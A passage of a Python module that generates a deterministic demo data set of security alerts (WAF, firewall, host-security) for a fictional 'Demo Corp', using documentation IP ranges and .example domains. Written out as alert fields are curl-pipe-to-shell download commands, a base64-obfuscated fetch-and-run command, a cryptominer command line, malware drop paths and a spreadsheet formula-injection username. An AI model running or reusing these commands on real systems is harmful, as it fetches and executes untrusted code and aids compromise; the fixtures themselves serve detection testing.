"""The "Demo Corp" data set, as native ingestion payloads.

Pure functions: given a seed and "now" they return the same accounts, hosts,
alerts and logs every time, so loading the demo again sends the same alert
uuids and changes nothing. Times are relative to "now" (the last 30 days,
denser recently) so the demo always looks current.

Every address comes from the documentation ranges of RFC 5737 and every
domain from the reserved ``.example`` names: nothing points at a real third
party. Our hosts' public addresses are in 198.51.100.0/24, attackers in
203.0.113.0/24 and attacker infrastructure (C2, download and mining servers)
in 192.0.2.0/24.
"""

import hashlib
import random
import uuid
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from urllib.parse import quote

from secops.enums import RegionGroup, Role

DEMO_ORGANISATION = "Demo Corp"
DEFAULT_SEED = 20240611
DEFAULT_ALERT_COUNT = 2400
HISTORY = timedelta(days=30)

_NAMESPACE = uuid.UUID("af379452-038c-47e9-9ff4-0472b6dd5d6c")
_CHINA_TIME = timezone(timedelta(hours=8))


# --- tenancy -------------------------------------------------------------------


@dataclass(frozen=True)
class DemoAccount:
    uid: str
    name: str
    region: str
    managed: bool = True


PRODUCTION = DemoAccount("1234567890123456", "Demo Production", RegionGroup.CHINA)
WEB_SHOP = DemoAccount("2345678901234567", "Demo Web Shop", RegionGroup.OUTSIDE_CHINA)
ANALYTICS = DemoAccount("3456789012345678", "Demo Analytics", RegionGroup.CHINA)
SANDBOX = DemoAccount("4567890123456789", "Demo Sandbox", RegionGroup.OUTSIDE_CHINA, managed=False)
DEMO_ACCOUNTS = (PRODUCTION, WEB_SHOP, ANALYTICS, SANDBOX)


@dataclass(frozen=True)
class DemoUser:
    username: str
    default_password: str
    global_admin: bool
    memberships: tuple[tuple[str, str], ...]
    description: str


DEMO_ADMIN = DemoUser(
    username="admin",
    default_password="Tidal-Harbor-Lantern-42",
    global_admin=True,
    memberships=tuple((account.uid, Role.ADMIN.value) for account in DEMO_ACCOUNTS),
    description="global administrator, member of every account",
)
DEMO_ANALYST = DemoUser(
    username="analyst",
    default_password="Quiet-Meadow-Compass-17",
    global_admin=False,
    memberships=((PRODUCTION.uid, Role.ANALYST.value),),
    description=f"analyst of {PRODUCTION.name} only",
)
DEMO_USERS = (DEMO_ADMIN, DEMO_ANALYST)


# --- hosts ---------------------------------------------------------------------

UBUNTU = "Ubuntu 22.04.4 LTS"
DEBIAN = "Debian GNU/Linux 12 (bookworm)"
CENTOS = "CentOS Linux 7.9.2009"
ALINUX = "Alibaba Cloud Linux 3.2104 LTS"
WINDOWS_2016 = "Windows Server 2016 Datacenter"
WINDOWS_2019 = "Windows Server 2019 Datacenter"
WINDOWS_2022 = "Windows Server 2022 Datacenter"

# Roles decide which attacks a host attracts: only hosts with a public
# address see inbound attacks, only web servers sit behind the WAF.
WEB, APP, DB, BASTION, WINDOWS, WINDOWS_WEB = "web", "app", "db", "bastion", "windows", "iis"
_EXPOSED_ROLES = {WEB, BASTION, WINDOWS, WINDOWS_WEB}

_HOST_PLAN = (
    # account, name, role, operating system, cloud region
    (PRODUCTION, "web-01", WEB, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "web-02", WEB, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "web-03", WEB, CENTOS, "cn-shanghai"),
    (PRODUCTION, "api-01", APP, ALINUX, "cn-hangzhou"),
    (PRODUCTION, "api-02", APP, ALINUX, "cn-shanghai"),
    (PRODUCTION, "db-01", DB, CENTOS, "cn-hangzhou"),
    (PRODUCTION, "db-02", DB, CENTOS, "cn-shanghai"),
    (PRODUCTION, "redis-01", DB, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "jump-01", BASTION, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "win-ad-01", WINDOWS, WINDOWS_2019, "cn-hangzhou"),
    # One account can hold data in both region groups.
    (PRODUCTION, "web-sg-01", WEB, UBUNTU, "ap-southeast-1"),
    (WEB_SHOP, "shop-web-01", WEB, DEBIAN, "ap-southeast-1"),
    (WEB_SHOP, "shop-web-02", WEB, DEBIAN, "ap-southeast-1"),
    (WEB_SHOP, "shop-web-03", WEB, DEBIAN, "eu-central-1"),
    (WEB_SHOP, "shop-api-01", APP, UBUNTU, "eu-central-1"),
    (WEB_SHOP, "pay-api-01", APP, UBUNTU, "us-west-1"),
    (WEB_SHOP, "shop-db-01", DB, UBUNTU, "ap-southeast-1"),
    (WEB_SHOP, "shop-db-02", DB, UBUNTU, "eu-central-1"),
    (WEB_SHOP, "win-iis-01", WINDOWS_WEB, WINDOWS_2016, "us-west-1"),
    (WEB_SHOP, "win-build-01", WINDOWS, WINDOWS_2022, "ap-southeast-1"),
    (WEB_SHOP, "shop-cn-web-01", WEB, ALINUX, "cn-shanghai"),
    (ANALYTICS, "etl-01", APP, ALINUX, "cn-beijing"),
    (ANALYTICS, "spark-01", APP, CENTOS, "cn-beijing"),
    (ANALYTICS, "spark-02", APP, CENTOS, "cn-beijing"),
    (ANALYTICS, "spark-03", APP, CENTOS, "cn-beijing"),
    (ANALYTICS, "kafka-01", APP, ALINUX, "cn-beijing"),
    (ANALYTICS, "bi-win-01", WINDOWS, WINDOWS_2019, "cn-beijing"),
    (SANDBOX, "sandbox-web-01", WEB, UBUNTU, "us-west-1"),
    (SANDBOX, "sandbox-01", APP, DEBIAN, "eu-central-1"),
    (SANDBOX, "sandbox-win-01", WINDOWS, WINDOWS_2022, "eu-central-1"),
)
_PRIVATE_SUBNET = {
    PRODUCTION.uid: "10.10.1",
    WEB_SHOP.uid: "172.16.5",
    ANALYTICS.uid: "10.20.3",
    SANDBOX.uid: "172.16.200",
}
_WEB_DOMAINS = {
    PRODUCTION.uid: "www.demo-corp.example",
    WEB_SHOP.uid: "shop.demo-corp.example",
    ANALYTICS.uid: "bi.demo-corp.example",
    SANDBOX.uid: "sandbox.demo-corp.example",
}


@dataclass(frozen=True)
class Host:
    account: DemoAccount
    name: str
    role: str
    os: str
    cloud_region: str
    uuid: str
    instance_id: str
    private_ip: str
    public_ip: str | None

    @property
    def is_windows(self) -> bool:
        return self.os.startswith("Windows")

    @property
    def domain(self) -> str:
        return _WEB_DOMAINS[self.account.uid]

    def asset(self) -> dict:
        return {
            "instance_id": self.instance_id,
            "uuid": self.uuid,
            "name": self.name,
            "public_ip": self.public_ip,
            "private_ip": self.private_ip,
            "os": self.os,
            "region": self.cloud_region,
        }


def build_hosts(seed: int) -> list[Host]:
    hosts = []
    for number, (account, name, role, os_name, cloud_region) in enumerate(_HOST_PLAN, start=1):
        exposed = role in _EXPOSED_ROLES or name == "redis-01"
        hosts.append(
            Host(
                account=account,
                name=name,
                role=role,
                os=os_name,
                cloud_region=cloud_region,
                uuid=_uuid(seed, "host", account.uid, name),
                instance_id="i-" + _hex(seed, "instance", account.uid, name)[:20],
                private_ip=f"{_PRIVATE_SUBNET[account.uid]}.{10 + number}",
                public_ip=f"198.51.100.{10 + number}" if exposed else None,
            )
        )
    return hosts


# --- attackers and their tools -------------------------------------------------

# A few addresses do most of the attacking, across hosts and accounts, so
# aggregation by attacker IP produces events of many alerts.
_ATTACKER_IPS = tuple(
    f"203.0.113.{n}" for n in (7, 23, 45, 66, 88, 101, 119, 134, 150, 177, 199, 211, 230, 247)
)
_ATTACKER_WEIGHTS = tuple(1 / rank for rank in range(1, len(_ATTACKER_IPS) + 1))
_C2_SERVERS = ("192.0.2.77", "192.0.2.91", "192.0.2.140")
_DOWNLOAD_SERVER = "192.0.2.45"
_DOWNLOAD_DOMAIN = "dl.update-cdn.example"
_MINING_POOL = ("192.0.2.200", "pool.xmr-mine.example", 3333)
_BENIGN_CLIENTS = tuple(f"198.51.100.{n}" for n in range(120, 200))


@dataclass(frozen=True)
class MaliciousFile:
    family: str
    path: str
    md5: str
    sha256: str


def _malicious_files(seed: int) -> dict[str, MaliciousFile]:
    specs = {
        # key: (family, path)
        "miner": ("Miner.Linux.XMRig", "/tmp/kdevtmpfsi"),
        "kinsing": ("Trojan.Linux.Kinsing", "/var/tmp/kinsing"),
        "kworkerd": ("Backdoor.Linux.Kworkerd", "/tmp/.ICE-unix/kworkerd"),
        "tsunami": ("Backdoor.Linux.Tsunami", "/usr/bin/.sshd"),
        "gafgyt": ("Trojan.Linux.Gafgyt", "/var/run/.x/gafgyt.x86"),
        "dropper": ("Trojan.Shell.Dropper", "/tmp/x.sh"),
        "php_shell": ("Webshell.PHP.Generic", "/var/www/html/uploads/cmd.php"),
        "jsp_shell": ("Webshell.JSP.Behinder", "/opt/tomcat/webapps/ROOT/uploads/help.jsp"),
        "aspx_shell": ("Webshell.ASPX.Chopper", r"C:\inetpub\wwwroot\upload\shell.aspx"),
        "rootkit_so": ("Rootkit.Linux.ProcessHider", "/usr/local/lib/libprocesshider.so"),
        "rootkit_ko": ("Rootkit.Linux.Diamorphine", "/lib/modules/diamorphine.ko"),
        "win_miner": ("Miner.Win64.XMRig", r"C:\Windows\Temp\xmrig.exe"),
        "mimikatz": ("HackTool.Win64.Mimikatz", r"C:\ProgramData\m64.exe"),
        "win_trojan": ("Trojan.Win32.Agent", r"C:\Users\Public\svchosts.exe"),
    }
    return {
        key: MaliciousFile(
            family=family,
            path=path,
            md5=hashlib.md5(f"{seed}/file/{key}".encode(), usedforsecurity=False).hexdigest(),
            sha256=hashlib.sha256(f"{seed}/file/{key}".encode()).hexdigest(),
        )
        for key, (family, path) in specs.items()
    }


_TACTIC_IDS = {
    "Initial Access": "TA0001",
    "Execution": "TA0002",
    "Persistence": "TA0003",
    "Privilege Escalation": "TA0004",
    "Defense Evasion": "TA0005",
    "Credential Access": "TA0006",
    "Discovery": "TA0007",
    "Lateral Movement": "TA0008",
    "Command and Control": "TA0011",
    "Impact": "TA0040",
}
_ATTCK = {
    "webshell": ("Persistence", "T1505.003 Server Software Component: Web Shell"),
    "reverse_shell": ("Execution", "T1059.004 Command and Scripting Interpreter: Unix Shell"),
    "brute_force": ("Credential Access", "T1110.001 Brute Force: Password Guessing"),
    "malicious_process": ("Execution", "T1059 Command and Scripting Interpreter"),
    "mining": ("Impact", "T1496 Resource Hijacking"),
    "web_attack": ("Initial Access", "T1190 Exploit Public-Facing Application"),
    "suspicious_login": ("Initial Access", "T1078 Valid Accounts"),
    "abnormal_network": ("Command and Control", "T1071 Application Layer Protocol"),
    "malicious_file": ("Execution", "T1204.002 User Execution: Malicious File"),
    "rootkit": ("Defense Evasion", "T1014 Rootkit"),
    "compromised_software": ("Initial Access", "T1190 Exploit Public-Facing Application"),
}
# The product's own words for the levels, as its raw payloads carry them.
_SECURITY_CENTER_LEVEL = {"high": "serious", "medium": "suspicious", "low": "remind"}
_NUMERIC_LEVEL = {"high": 3, "medium": 2, "low": 1}


def _uuid(seed: int, *parts) -> str:
    return str(uuid.uuid5(_NAMESPACE, "/".join(str(part) for part in (seed, *parts))))


def _hex(seed: int, *parts) -> str:
    return hashlib.sha256("/".join(str(part) for part in (seed, *parts)).encode()).hexdigest()


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="seconds")


# --- entities ------------------------------------------------------------------


def _ip_entity(value: str, role: str) -> dict:
    return {"type": "ip", "role": role, "value": value}


def _file_entity(file: MaliciousFile, role: str = "related", path: str | None = None) -> dict:
    return {
        "type": "file",
        "role": role,
        "path": path or file.path,
        "md5": file.md5,
        "sha256": file.sha256,
    }


def _process_entity(pid, ppid, path, cmdline, user, role="related") -> dict:
    return {
        "type": "process",
        "role": role,
        "pid": pid,
        "ppid": ppid,
        "path": path,
        "cmdline": cmdline,
        "user": user,
    }


def _user_entity(name, logon_type, src_ip, role="related") -> dict:
    return {"type": "user", "role": role, "name": name, "logon_type": logon_type, "src_ip": src_ip}


def _value_entity(entity_type: str, value: str, role: str = "related") -> dict:
    return {"type": entity_type, "role": role, "value": value}


# --- alerts --------------------------------------------------------------------


@dataclass
class _Campaign:
    """One attacker's run against one or more hosts: the alerts it causes share
    the attacker's address, tools and time, as real attacks do."""

    attacker_ip: str
    c2_ip: str
    hosts: list[Host]
    start: datetime
    variant: int


@dataclass(frozen=True)
class _Kind:
    key: str
    source: str
    weight: float
    sizes: tuple[int, int]
    targets: str  # which hosts: "linux", "windows", "exposed_linux", "web", ...
    spread: tuple[int, int] = (1, 1)  # how many hosts one campaign reaches


class _AlertGenerator:
    def __init__(self, seed: int, now: datetime, hosts: Sequence[Host], stream: str = "alerts"):
        self.seed = seed
        self.now = now
        # Separate streams (background, story) never produce the same uuids.
        self.stream = stream
        self.rng = random.Random(f"{seed}/{stream}")
        self.files = _malicious_files(seed)
        self.counters: dict[str, int] = {}
        linux = [h for h in hosts if not h.is_windows]
        windows = [h for h in hosts if h.is_windows]
        self.targets = {
            "linux": linux,
            "windows": windows,
            "exposed_linux": [h for h in linux if h.public_ip],
            "exposed_windows": [h for h in windows if h.public_ip],
            "exposed": [h for h in hosts if h.public_ip],
            "web": [h for h in hosts if h.role in (WEB, WINDOWS_WEB)],
            "linux_web": [h for h in linux if h.role == WEB],
            "redis": [h for h in linux if h.name == "redis-01"],
            "iis": [h for h in windows if h.role == WINDOWS_WEB],
            "any": list(hosts),
        }

    # The campaign kinds, with weights chosen so that the sources come out
    # roughly as a mid-sized cloud customer sees them: host security and WAF
    # dominate, the firewall and our own SIEM rules add fewer.
    KINDS = (
        _Kind("ssh_brute_force", "security_center", 7, (4, 30), "exposed_linux", (1, 3)),
        _Kind("waf_sqli", "waf", 6, (3, 40), "web", (1, 6)),
        _Kind("cfw_inbound_ips", "cloud_firewall", 5, (2, 20), "exposed", (1, 5)),
        _Kind("siem_detection", "siem", 4, (1, 12), "any"),
        _Kind("rdp_brute_force", "security_center", 3, (4, 25), "exposed_windows"),
        _Kind("waf_xss", "waf", 4, (2, 25), "web", (1, 4)),
        _Kind("cfw_outbound_c2", "cloud_firewall", 3, (2, 15), "any", (1, 3)),
        _Kind("suspicious_login", "security_center", 4, (1, 4), "exposed"),
        _Kind("waf_rce", "waf", 3, (2, 20), "web", (1, 6)),
        _Kind("mining", "security_center", 3, (2, 10), "linux", (1, 5)),
        _Kind("waf_scanner", "waf", 4, (5, 40), "web", (1, 8)),
        _Kind("malicious_process", "security_center", 3, (1, 6), "linux", (1, 2)),
        _Kind("cfw_mining_pool", "cloud_firewall", 2, (2, 12), "linux", (1, 4)),
        _Kind("malicious_file", "security_center", 3, (1, 5), "linux", (1, 4)),
        _Kind("waf_formula_injection", "waf", 1, (1, 4), "web", (1, 2)),
        _Kind("webshell", "security_center", 2, (1, 3), "linux_web"),
        _Kind("windows_malware", "security_center", 2, (1, 5), "windows", (1, 2)),
        _Kind("reverse_shell", "security_center", 1, (1, 3), "linux"),
        _Kind("rootkit", "security_center", 1, (1, 2), "linux"),
        _Kind("compromised_software", "security_center", 1, (1, 4), "redis"),
        _Kind("iis_webshell", "security_center", 1, (1, 2), "iis"),
    )

    def generate(self, count: int) -> list[dict]:
        alerts: list[dict] = []
        campaign_number = 0
        while len(alerts) < count:
            if campaign_number < len(self.KINDS):
                # Every kind once first, briefly, so that even a small demo has
                # every source, scenario and region.
                kind = self.KINDS[campaign_number]
                size = min(self._size(kind), 3)
            else:
                kind = self.rng.choices(self.KINDS, weights=[k.weight for k in self.KINDS])[0]
                size = self._size(kind)
            campaign = self._campaign(kind)
            build = getattr(self, f"_{kind.key}")
            for moment in self._moments(campaign.start, size):
                if len(alerts) == count:
                    break
                alerts.append(build(campaign, self.rng.choice(campaign.hosts), moment))
            campaign_number += 1
        return alerts

    def _size(self, kind: _Kind) -> int:
        low, high = kind.sizes
        # The smaller of two draws: most campaigns are short, a few are long.
        return min(self.rng.randint(low, high), self.rng.randint(low, high))

    def _campaign(self, kind: _Kind) -> _Campaign:
        candidates = self.targets[kind.targets]
        reach = min(self.rng.randint(*kind.spread), len(candidates))
        return _Campaign(
            attacker_ip=self.rng.choices(_ATTACKER_IPS, weights=_ATTACKER_WEIGHTS)[0],
            c2_ip=self.rng.choice(_C2_SERVERS),
            hosts=self.rng.sample(candidates, reach),
            # Squaring a uniform draw puts more campaigns in recent days.
            start=self.now - HISTORY * (self.rng.random() ** 2) + timedelta(minutes=1),
            variant=self.rng.randrange(1_000_000),
        )

    def _moments(self, start: datetime, size: int) -> list[datetime]:
        earliest, latest = (
            self.now - HISTORY + timedelta(minutes=5),
            self.now - timedelta(minutes=1),
        )
        moments, moment = [], start
        for _ in range(size):
            moments.append(min(max(moment, earliest), latest))
            moment += timedelta(seconds=self.rng.randint(20, 1800))
        return moments

    # -- one alert -------------------------------------------------------------

    def new_identity(self, source: str) -> tuple[int, str]:
        """A running number and a digest unique to this seed, stream and source."""
        number = self.counters[source] = self.counters.get(source, 0) + 1
        return number, _hex(self.seed, self.stream, source, number)

    def alert(
        self,
        *,
        source,
        uuid_value,
        host,
        alert_type,
        name,
        level,
        when,
        entities,
        description,
        raw,
        exceptions=(),
    ) -> dict:
        tactic, technique = _ATTCK[alert_type]
        return {
            "source": source,
            "uuid": uuid_value,
            "account": host.account.uid,
            "type": alert_type,
            "name": name,
            "level": level,
            "occurred_at": _iso(when),
            "asset": host.asset(),
            "entities": entities,
            "attck": {"tactic": tactic, "technique": technique},
            "description": description,
            "exceptions": list(exceptions),
            "raw": raw,
        }

    def security_center(
        self,
        host,
        when,
        *,
        alert_type,
        name,
        event_name,
        category,
        level,
        entities,
        description,
        details,
        data_source="aegis_suspicious_event",
        exceptions=(),
    ) -> dict:
        number, digest = self.new_identity("security_center")
        unique_info = digest[:32]
        tactic, _ = _ATTCK[alert_type]
        stamp = int(when.timestamp() * 1000)
        raw = {
            "Id": 700000 + number,
            "UniqueInfo": unique_info,
            "AlarmUniqueInfo": _hex(self.seed, "alarm", host.uuid, event_name)[:32],
            "Uuid": host.uuid,
            "InstanceId": host.instance_id,
            "InstanceName": host.name,
            "InternetIp": host.public_ip or "",
            "IntranetIp": host.private_ip,
            "Name": f"{category}-{name}",
            "AlarmEventName": event_name,
            "AlarmEventNameDisplay": name,
            "AlarmEventType": category,
            "AlarmEventTypeDisplay": category,
            "Level": _SECURITY_CENTER_LEVEL[level],
            "EventStatus": 1,
            "DataSource": data_source,
            "Desc": description,
            "Details": [
                {"NameDisplay": label, "Type": "text", "Value": value, "ValueDisplay": value}
                for label, value in details
            ],
            "OccurrenceTime": when.astimezone(_CHINA_TIME).strftime("%Y-%m-%d %H:%M:%S"),
            "OccurrenceTimeStamp": stamp,
            "LastTime": when.astimezone(_CHINA_TIME).strftime("%Y-%m-%d %H:%M:%S"),
            "LastTimeStamp": stamp,
            "SourceAliUid": int(host.account.uid),
            "TacticItems": [{"TacticId": _TACTIC_IDS[tactic], "TacticDisplayName": tactic}],
            "SaleVersion": "1",
        }
        return self.alert(
            source="security_center",
            host=host,
            alert_type=alert_type,
            name=name,
            level=level,
            when=when,
            entities=[*entities, _value_entity("host", host.uuid, "victim")],
            description=description,
            raw=raw,
            exceptions=exceptions,
            uuid_value=unique_info,
        )

    def waf(
        self,
        host,
        when,
        *,
        campaign,
        name,
        rule_type,
        level,
        method,
        path,
        query,
        payload,
        status=405,
        blocked=True,
        user_agent=None,
    ) -> dict:
        _, digest = self.new_identity("waf")
        trace_id = digest[:30]
        rule_id = str(110000 + (campaign.variant % 9000))
        user_agent = user_agent or self.rng.choice(_ATTACK_USER_AGENTS)
        url = f"https://{host.domain}{path}" + (f"?{query}" if query else "")
        raw = {
            "time": when.astimezone(_CHINA_TIME).isoformat(timespec="seconds"),
            "host": host.domain,
            "matched_host": host.domain,
            "real_client_ip": campaign.attacker_ip,
            "remote_addr": campaign.attacker_ip,
            "remote_port": self.rng.randint(30000, 65000),
            "request_method": method,
            "request_path": path,
            "querystring": query,
            "request_traceid": trace_id,
            "status": status if blocked else 200,
            "upstream_status": "-" if blocked else 200,
            "upstream_addr": f"{host.private_ip}:80",
            "http_user_agent": user_agent,
            "http_referer": "-",
            "https": "on",
            "region": "cn" if host.cloud_region.startswith("cn-") else "int",
            "user_id": host.account.uid,
            "waf_rule_type": rule_type,
            "waf_rule_id": rule_id,
            "waf_test": "false" if blocked else "true",
        }
        if blocked:
            raw.update(
                final_action="block",
                final_plugin="waf",
                final_rule_id=rule_id,
                final_rule_type=rule_type,
                waf_action="block",
            )
        outcome = "blocked" if blocked else "logged (monitor mode) and passed to the origin"
        return self.alert(
            source="waf",
            host=host,
            alert_type="web_attack",
            name=name,
            level=level,
            when=when,
            entities=[
                _ip_entity(campaign.attacker_ip, "attacker"),
                _value_entity("url", url),
                _value_entity("payload", payload, "attacker"),
                _value_entity("domain", host.domain, "victim"),
            ],
            description=(
                f"{method} {path} from {campaign.attacker_ip} matched WAF rule {rule_id} "
                f"({rule_type}); the request was {outcome}."
            ),
            raw=raw,
            exceptions=[f"WAF rule {rule_id} ({rule_type}) hit on {host.domain}"],
            uuid_value=trace_id,
        )

    def cloud_firewall(
        self,
        host,
        when,
        *,
        alert_type,
        name,
        level,
        direction,
        remote_ip,
        remote_port,
        protocol,
        app,
        attack_type,
        blocked,
        extra_entities=(),
    ) -> dict:
        _, digest = self.new_identity("cloud_firewall")
        event_id = str(uuid.UUID(hex=digest[:32]))
        start = int(when.timestamp())
        if direction == "in":
            src_ip, src_port = remote_ip, self.rng.randint(30000, 65000)
            dst_ip, dst_port = host.public_ip or host.private_ip, remote_port
            roles = ("attacker", "victim")
        else:
            src_ip, src_port = host.public_ip or host.private_ip, self.rng.randint(30000, 65000)
            dst_ip, dst_port = remote_ip, remote_port
            roles = ("victim", "attacker")
        raw = {
            "__time__": when.astimezone(_CHINA_TIME).strftime("%Y-%m-%d %H:%M:%S"),
            "log_type": "internet_log",
            "aliuid": host.account.uid,
            "src_ip": src_ip,
            "src_port": src_port,
            "dst_ip": dst_ip,
            "dst_port": dst_port,
            "src_private_ip": host.private_ip if direction == "out" else "",
            "direction": direction,
            "ip_protocol": protocol,
            "app_name": app,
            "rule_result": "drop" if blocked else "alert",
            "ips_rule_id": _uuid(self.seed, "ips-rule", name),
            "ips_rule_name_en": name,
            "attack_type_name_en": attack_type,
            "vul_level": _NUMERIC_LEVEL[level],
            "region_id": host.cloud_region,
            "start_time": start,
            "end_time": start + self.rng.randint(1, 90),
            "in_packet_count": self.rng.randint(3, 400),
            "out_packet_count": self.rng.randint(3, 400),
        }
        return self.alert(
            source="cloud_firewall",
            host=host,
            alert_type=alert_type,
            name=name,
            level=level,
            when=when,
            entities=[
                _ip_entity(src_ip, roles[0]),
                _ip_entity(dst_ip, roles[1]),
                *extra_entities,
            ],
            description=(
                f"{attack_type}: {protocol} {src_ip}:{src_port} -> {dst_ip}:{dst_port} "
                f"({app}), {'dropped' if blocked else 'allowed and alerted'} by Cloud Firewall."
            ),
            raw=raw,
            uuid_value=event_id,
        )

    # -- campaign kinds: Security Center ---------------------------------------

    def _ssh_brute_force(self, campaign, host, when):
        user = self.rng.choice(("root", "admin", "ubuntu", "oracle", "postgres", "test"))
        attempts = self.rng.randint(30, 900)
        succeeded = campaign.variant % 11 == 0 and self.rng.random() < 0.3
        name = (
            "Successful SSH logon after brute-force attack"
            if succeeded
            else "SSH brute-force attack"
        )
        return self.security_center(
            host,
            when,
            alert_type="brute_force",
            name=name,
            event_name="login_crack_success" if succeeded else "login_crack",
            category="Brute-force attack",
            level="high" if succeeded else self.rng.choice(("medium", "medium", "low")),
            entities=[
                _ip_entity(campaign.attacker_ip, "attacker"),
                _user_entity(user, "ssh", campaign.attacker_ip, "victim"),
            ],
            description=(
                f"{attempts} failed SSH password logons for {user} from {campaign.attacker_ip}"
                + (", followed by a successful one." if succeeded else ".")
            ),
            details=[
                ("Source IP", campaign.attacker_ip),
                ("User", user),
                ("Failed attempts", str(attempts)),
            ],
            data_source="aegis_login_log",
            exceptions=[{"name": "Failed logons", "count": attempts, "user": user}],
        )

    def _rdp_brute_force(self, campaign, host, when):
        # Attackers try odd user names too, including spreadsheet formulas that
        # end up in exports: the export must neutralise them.
        user = self.rng.choice(
            (
                "Administrator",
                "admin",
                "Administrator",
                "backup",
                '=HYPERLINK("http://203.0.113.9/","open")',
            )
        )
        attempts = self.rng.randint(50, 2000)
        return self.security_center(
            host,
            when,
            alert_type="brute_force",
            name="RDP brute-force attack",
            event_name="rdp_crack",
            category="Brute-force attack",
            level=self.rng.choice(("medium", "low")),
            entities=[
                _ip_entity(campaign.attacker_ip, "attacker"),
                _user_entity(user, "RDP (logon type 10)", campaign.attacker_ip, "victim"),
            ],
            description=f"{attempts} failed RDP logons for {user} from {campaign.attacker_ip}.",
            details=[
                ("Source IP", campaign.attacker_ip),
                ("User", user),
                ("Failed attempts", str(attempts)),
            ],
            data_source="aegis_login_log",
        )

    def _suspicious_login(self, campaign, host, when):
        variants = (
            ("Login from unusual location", "login_common_location", "low"),
            ("Login at unusual time", "login_common_time", "low"),
            ("Login with unusual account", "login_common_account", "medium"),
        )
        name, event_name, level = variants[campaign.variant % len(variants)]
        user = "Administrator" if host.is_windows else self.rng.choice(("deploy", "ops", "root"))
        logon = "RDP" if host.is_windows else "ssh"
        return self.security_center(
            host,
            when,
            alert_type="suspicious_login",
            name=name,
            event_name=event_name,
            category="Unusual Logon",
            level=level,
            entities=[
                _ip_entity(campaign.attacker_ip, "related"),
                _user_entity(user, logon, campaign.attacker_ip, "related"),
            ],
            description=f"{user} logged on over {logon} from {campaign.attacker_ip}, "
            "which this host has not seen before.",
            details=[("Source IP", campaign.attacker_ip), ("User", user), ("Logon type", logon)],
            data_source="aegis_login_log",
        )

    def _mining(self, campaign, host, when):
        miner = self.files["miner"]
        pool_ip, pool_domain, pool_port = _MINING_POOL
        pid = self.rng.randint(2000, 60000)
        cmdline = f"{miner.path} -o {pool_domain}:{pool_port} -u 4AdUndXHHZ9pfQj27iMAjAr4 -k --donate-level 1"
        return self.security_center(
            host,
            when,
            alert_type="mining",
            name="Mining program",
            event_name="mining_program",
            category="Malicious process",
            level="high",
            entities=[
                _process_entity(pid, 1, miner.path, cmdline, "root", "attacker"),
                _file_entity(miner, "attacker"),
                _value_entity("domain", pool_domain, "attacker"),
                _ip_entity(pool_ip, "attacker"),
            ],
            description=f"{miner.path} ({miner.family}) is mining cryptocurrency for {pool_domain}.",
            details=[
                ("Process path", miner.path),
                ("Command line", cmdline),
                ("MD5", miner.md5),
                ("Mining pool", f"{pool_domain}:{pool_port}"),
            ],
            exceptions=[f"CPU usage above 95% since {_iso(when - timedelta(minutes=12))}"],
        )

    def _malicious_process(self, campaign, host, when):
        variants = (
            (
                "Download and execution of a script by a shell",
                "medium",
                f"curl -fsSL http://{_DOWNLOAD_DOMAIN}/x.sh | sh",
                "/bin/sh",
            ),
            (
                "Obfuscated command executed",
                "high",
                "bash -c echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi40NS94LnNofHNo | base64 -d | bash",
                "/bin/bash",
            ),
            (
                "Malicious process: Kinsing",
                "high",
                f"{self.files['kinsing'].path} -c /tmp/kinsing.conf",
                self.files["kinsing"].path,
            ),
            (
                "Suspicious process hiding its name",
                "medium",
                "[kworker/0:2H]",
                "/tmp/.X25-unix/.rsync/a",
            ),
        )
        name, level, cmdline, path = variants[campaign.variant % len(variants)]
        pid = self.rng.randint(2000, 60000)
        parent_pid = self.rng.randint(900, pid - 1)
        entities = [
            _process_entity(
                pid, parent_pid, path, cmdline, self.rng.choice(("root", "www-data")), "attacker"
            ),
            _process_entity(parent_pid, 1, "/usr/sbin/cron", "/usr/sbin/CRON -f", "root"),
        ]
        if "kinsing" in path:
            entities.append(_file_entity(self.files["kinsing"], "attacker"))
        if "curl" in cmdline:
            entities.append(_value_entity("url", f"http://{_DOWNLOAD_DOMAIN}/x.sh", "attacker"))
            entities.append(_value_entity("domain", _DOWNLOAD_DOMAIN, "attacker"))
        return self.security_center(
            host,
            when,
            alert_type="malicious_process",
            name=name,
            event_name="suspicious_process",
            category="Suspicious process",
            level=level,
            entities=entities,
            description=f"Process {pid} ({path}) ran: {cmdline}",
            details=[
                ("Process path", path),
                ("Command line", cmdline),
                ("Parent process", "/usr/sbin/cron"),
            ],
        )

    def _malicious_file(self, campaign, host, when):
        choices = ("kworkerd", "tsunami", "gafgyt", "kinsing", "dropper")
        file = self.files[choices[campaign.variant % len(choices)]]
        level = "medium" if file.family.startswith("Trojan.Shell") else "high"
        return self.security_center(
            host,
            when,
            alert_type="malicious_file",
            name=f"Malicious file: {file.family}",
            event_name="malicious_file",
            category="Malicious file",
            level=level,
            entities=[
                _file_entity(file, "attacker"),
                _process_entity(
                    self.rng.randint(2000, 60000),
                    1,
                    "/usr/bin/curl",
                    f"curl -fsSL -o {file.path} http://{_DOWNLOAD_DOMAIN}/{file.path.rsplit('/', 1)[-1]}",
                    "root",
                ),
                _value_entity("domain", _DOWNLOAD_DOMAIN, "attacker"),
            ],
            description=f"{file.path} matches the signature of {file.family}.",
            details=[("File path", file.path), ("MD5", file.md5), ("SHA256", file.sha256)],
            data_source="aegis_suspicious_file_v2",
        )

    def _webshell(self, campaign, host, when):
        php = campaign.variant % 2 == 0
        file = self.files["php_shell" if php else "jsp_shell"]
        writer = (
            (self.rng.randint(900, 9000), "/usr/sbin/php-fpm8.1", "php-fpm: pool www", "www-data")
            if php
            else (
                self.rng.randint(900, 9000),
                "/usr/lib/jvm/java-11-openjdk-amd64/bin/java",
                "java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start",
                "tomcat",
            )
        )
        pid, path, cmdline, user = writer
        return self.security_center(
            host,
            when,
            alert_type="webshell",
            name=f"Webshell: {file.family}",
            event_name="webshell",
            category="Website backdoor",
            level="high",
            entities=[
                _file_entity(file, "attacker"),
                _process_entity(pid, 1, path, cmdline, user),
                _ip_entity(campaign.attacker_ip, "attacker"),
            ],
            description=f"A web shell was written to {file.path} by {path}.",
            details=[("File path", file.path), ("MD5", file.md5), ("Writer", path)],
